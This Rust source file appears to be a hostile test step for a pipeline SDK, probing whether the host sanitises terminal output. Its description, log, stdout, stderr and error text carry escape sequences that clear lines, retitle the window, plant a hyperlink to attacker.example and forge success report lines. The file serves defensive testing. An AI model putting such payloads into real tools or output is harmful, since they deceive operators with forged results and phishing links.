//! Attack: text meant for the operator's terminal. The description sets the window title;
//! `run` logs, prints to stdout and stderr, and fails with text that clears the line, moves
//! the cursor, plants a hyperlink and forges `✓` report lines on new lines. With
//! `input.route`, it succeeds instead, with that route label (bidirectional overrides and
//! invisible characters).
use serde::Deserialize;
use std::io::Write;
use weir_sdk::{Context, Meta, Output, Step, StepError, log};

/// Clears the line, returns the cursor, and writes a report line of the host's shape.
const FORGED: &str = "\u{1b}[2K\r  ✓ forged-step 1.0ms\n  ✓ another 2.0ms";
/// Sets the terminal's window title and plants a hyperlink.
const OSC: &str = "\u{1b}]0;pwned\u{7}\u{1b}]8;;https://attacker.example\u{7}click\u{1b}]8;;\u{7}";

#[derive(Deserialize)]
struct Attack {
    #[serde(default)]
    route: Option<String>,
}

struct TerminalForge;

impl Step for TerminalForge {
    type Input = Attack;
    type Output = String;

    fn meta() -> Meta {
        Meta::new("hostile-terminal-forge", "1.0.0").description(format!("{OSC}{FORGED}"))
    }

    fn run(_ctx: &Context, attack: Attack) -> Result<Output<String>, StepError> {
        if let Some(route) = attack.route {
            return Ok(Output::new("routed".into()).route(route));
        }
        log::warn(&format!("{OSC}{FORGED}"));
        let _ = writeln!(std::io::stdout(), "{FORGED}");
        let _ = writeln!(std::io::stderr(), "{OSC}");
        Err(StepError::fatal(format!("{OSC}{FORGED}")))
    }
}

weir_sdk::export_step!(TerminalForge);
